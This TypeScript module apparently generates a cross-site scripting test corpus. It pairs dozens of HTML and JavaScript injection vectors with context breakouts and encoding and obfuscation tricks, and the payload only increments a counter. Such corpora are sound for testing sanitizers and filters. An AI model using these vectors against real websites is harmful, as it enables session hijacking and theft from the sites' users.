/** What every payload runs: it counts itself, in the window that people see even from a frame. Short, for names are. */
const RUN = 'top.__ran=-~top.__ran';

/** One way to have a browser run something, as raw markup; each once in the lists of those who test for it. */
export const VECTORS: readonly string[] = [
  `<script>${RUN}</script>`,
  `<ScRiPt >${RUN}</sCrIpT\t>`,
  `<script src="data:text/javascript,${RUN}"></script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<img src=x onerror="${RUN}">`,
  `<img/src='x'/onerror=${RUN}>`,
  `<IMG SRC=x OnErRoR='${RUN}'>`,
  `<img src="x:x" onerror\n=\n"${RUN}">`,
  `<img src=\`x\` onerror=${RUN}><!--`,
  `<image src=x onerror="${RUN}">`,
  `<svg onload="${RUN}"></svg>`,
  `<svg/onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="data:,${RUN}"/></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s>`,
  `<svg><a href="javascript:${RUN}"><text y=20>SVG</text></a></svg>`,
  `<svg><set onbegin=${RUN} attributeName=x>`,
  `<svg><style><img src=x onerror="${RUN}"></style></svg>`,
  `<svg><foreignObject><img src=x onerror="${RUN}"></foreignObject></svg>`,
  `<math><mtext><img src=x onerror="${RUN}"></mtext></math>`,
  `<math><a xlink:href="javascript:${RUN}">M</a></math>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}">`,
  `<a href="javascript:${RUN}">lien</a>`,
  `<a href="JaVaScRiPt:${RUN}">lien</a>`,
  `<a href="java\tscript:${RUN}">lien</a>`,
  `<a href="&#106;avascript&colon;${RUN}">lien</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">lien</a>`,
  `<form action="javascript:${RUN}"><button>B</button></form>`,
  `<button formaction="javascript:${RUN}">B</button>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<video><source onerror="${RUN}"></video>`,
  `<video src=x onerror="${RUN}"></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<details open ontoggle="${RUN}">d</details>`,
  `<input autofocus onfocus="${RUN}">`,
  `<p tabindex=0 autofocus onfocus="${RUN}">p</p>`,
  `<b onmouseover="${RUN}" onclick="${RUN}">b</b>`,
  `<marquee onstart="${RUN}">m</marquee>`,
  `<style>@keyframes k{}</style><p style="animation:k" onanimationstart="${RUN}">`,
  `<link rel=stylesheet href="data:text/css,*{color:red}" onload="${RUN}">`,
  `<p style="background:url(javascript:${RUN})">p</p>`,
  `<template><img src=x onerror="${RUN}"></template>`,
  `<template shadowrootmode=open><img src=x onerror="${RUN}"></template>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<base href="javascript:${RUN}//">`,
  `<noscript><p title="</noscript><img src=x onerror='${RUN}'>">`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
];

const entities = (markup: string): string => markup.replaceAll('<', '&lt;').replaceAll('>', '&gt;');
const full = (letter: string): string => String.fromCodePoint((letter.codePointAt(0) ?? 0) + 0xfe_e0);

/** Where a payload may land, and how it may be dressed to get there. */
export const CONTEXTS: Readonly<Record<string, (markup: string) => string>> = {
  raw: (markup) => markup,
  doubleQuote: (markup) => `">${markup}`,
  singleQuote: (markup) => `'>${markup}`,
  textarea: (markup) => `</textarea>${markup}`,
  title: (markup) => `</title>${markup}`,
  scriptEnd: (markup) => `</script>${markup}`,
  styleEnd: (markup) => `</style>${markup}`,
  comment: (markup) => `<!--><!-- -->${markup}`,
  cdata: (markup) => `<![CDATA[${markup}]]>`,
  entities,
  twiceEncoded: (markup) => entities(entities(markup)),
  percent: (markup) => markup.replaceAll('<', '%3C').replaceAll('>', '%3E'),
  escaped: (markup) => markup.replaceAll('<', String.raw`\u003c`),
  fullWidth: (markup) => markup.replaceAll(/[<>]/gu, full),
  invisible: (markup) => markup.replace('<', '<\u200B').replace('>', '\u202E>'),
  nested: (markup) => `<ul><li><p><b><i>${markup}</i></b></p></li></ul>`,
};

/** Every vector in every context, once: some contexts leave some vectors as they are. */
export const PAYLOADS: readonly string[] = [...new Set(Object.values(CONTEXTS).flatMap((dress) => VECTORS.map(dress)))];

/** Payloads that fit on one line of so many characters. */
export const linesWithin = (payloads: readonly string[], most: number): string[] =>
  payloads.filter((one) => one.length <= most && !/[\n\r]/u.test(one));

/** Payloads one after the other, in as few texts of so many characters as hold them all. */
export function packed(payloads: readonly string[], most: number): string[] {
  const texts = [''];
  for (const one of payloads) {
    const last = texts.at(-1) ?? '';
    if (last.length + one.length + 1 > most) texts.push(one);
    else texts[texts.length - 1] = last ? `${last} ${one}` : one;
  }
  return texts;
}
